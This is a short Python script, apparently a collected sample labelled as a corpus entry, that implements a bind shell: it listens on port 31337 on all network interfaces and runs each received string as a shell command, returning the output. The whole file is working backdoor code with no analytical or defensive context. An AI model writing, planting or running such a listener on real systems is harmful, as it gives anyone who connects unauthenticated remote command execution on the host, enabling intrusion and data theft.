# corpus: bind shell: socket listening on 0.0.0.0:31337 and executing received commands
import socket
import subprocess

srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, _ = srv.accept()
while data := conn.recv(1024):
    conn.sendall(subprocess.run(data.decode(), shell=True, capture_output=True).stdout)
